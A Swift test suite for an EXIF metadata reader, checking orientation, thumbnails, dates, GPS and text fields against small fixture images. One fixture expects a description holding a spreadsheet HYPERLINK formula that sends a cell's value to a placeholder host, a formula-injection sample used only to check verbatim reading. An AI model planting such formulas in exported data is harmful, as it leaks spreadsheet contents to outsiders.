import Foundation
import IngestTestSupport
import Testing

@testable import PhotoCodecs

/// Reads the small files that each show one fault of programs of this kind (known faults A2, A5, C3, F).
@Suite(.timeLimit(.minutes(1)), .enabled(if: SharedMaterial.isAvailable, "the fixtures do not lie beside the project"))
struct MetadataFixtureTests {
  @Test(
    arguments: [1, 2, 3, 4, 5, 6, 7, 8].flatMap { value in ["le", "be"].map { ("orient_\(value)_\($0).jpg", value) } }
      + [
        ("orient_xmp_first_exif6_second.jpg", 6), ("orient_xmpext_before_exif6.jpg", 6), ("png_exif_3.png", 3),
        ("png_exif_6.png", 6), ("png_exif_8.png", 8), ("png_exif_6_after_idat.png", 6),
      ])
  func `A5: the orientation is found wherever the block stands`(name: String, value: Int) throws {
    let facts = try Self.facts(name)
    #expect(facts.orientation == value)
    #expect(!facts.orientationIgnored)
    #expect(!facts.isBroken)
  }

  @Test func `A2: the orientation of the stand-in picture says nothing of the main one`() throws {
    let facts = try Self.facts("orient_ifd1_only_6.jpg")
    #expect(facts.orientation == nil)
    #expect(facts.metadata.make == "X")
    #expect(!facts.isBroken)
  }

  @Test func `C3: the stand-in picture is the one that IFD1 points at, whole`() throws {
    let picture = try #require(try Self.facts("embthumb_stale_magenta.jpg").embeddedJPEG)
    #expect(picture.count == 1154)
    #expect(picture.prefix(2) == [0xFF, 0xD8])
    #expect(picture.suffix(2) == [0xFF, 0xD9])
  }

  @Test func `F1: a directory that points back to the first one is read once`() throws {
    let facts = try Self.facts("exif_ifd_loop.jpg")
    #expect(facts.orientation == 6)
    #expect(facts.isBroken)
  }

  @Test(arguments: ["date_zero.jpg", "date_blank.jpg"])
  func `F3: zeros and blanks are no date`(name: String) throws {
    #expect(try Self.facts(name).metadata.captured == nil)
  }

  @Test(arguments: [
    ("date_2050.jpg", "2050-12-31T00:00:00", nil),
    ("offset_orig_plus2.jpg", "2024-07-01T02:13:00", "+02:00"),
    ("offset_none.jpg", "2024-07-01T02:52:00", nil),
    ("offset_only_0x9010.jpg", "2024-07-01T02:52:00", nil),
    ("burst_0001.jpg", "2023-08-13T09:26:38.178406", nil),
    ("burst_0024.jpg", "2023-08-13T09:26:39.094772", nil),
    ("burst_0025.jpg", "2023-08-13T09:26:39.128095", nil),
    ("burst_0030.jpg", "2023-08-13T09:26:39.311368", nil),
    ("subsec_7_means_point7.jpg", "2023-08-13T09:26:39.7", nil),
    ("subsec_65.jpg", "2023-08-13T09:26:39.65", nil),
  ])
  func `F5, F6: the time has the digits of the file and the offset of its own tag`(
    name: String, local: String, offset: String?
  ) throws {
    let expected = PhotoMetadata.Captured(local: local, offset: offset, source: "exif:DateTimeOriginal")
    #expect(try Self.facts(name).metadata.captured == expected)
  }

  @Test(arguments: [
    ("gps_0_0.jpg", nil, nil), ("gps_true_zero.jpg", 0.0, 0.0), ("gps_ok.jpg", 52.5, 13.4),
  ])
  func `F7: nothing over nothing is no position, zero is one`(
    name: String, latitude: Double?, longitude: Double?
  ) throws {
    let metadata = try Self.facts(name).metadata
    #expect(metadata.latitude == latitude)
    #expect(metadata.longitude == longitude)
    #expect(metadata.altitude == nil)
  }

  @Test(arguments: [
    ("desc_latin1.jpg", "Noël"), ("desc_utf8.jpg", "Noël"), ("desc_nul_inside.jpg", "abc def"),
    ("desc_csv_formula.jpg", #"=HYPERLINK("http://x/?"&A1,"c")"#),
  ])
  func `F9: a description is valid text with its last letter`(name: String, text: String) throws {
    #expect(try Self.facts(name).metadata.description == text)
  }

  @Test(arguments: [
    ("uc_unicode_le.jpg", "Garten Kyōto"), ("uc_unicode_be.jpg", "Garten Kyōto"),
    ("uc_no_prefix.jpg", "UserComment"), ("uc_wrongcase.jpg", "abc def"),
  ])
  func `F9: a comment is read whatever its code says`(name: String, text: String) throws {
    let metadata = try Self.facts(name).metadata
    #expect(metadata.comment == text)
    #expect(metadata.commentBase64 == nil)
  }

  private static func facts(_ name: String) throws -> ExifFacts {
    let file = [UInt8](try Data(contentsOf: URL(filePath: SharedMaterial.fixture(name))))
    return ExifBlock.read(tiff: try #require(MetadataExifFinder.tiff(in: file)))
  }
}
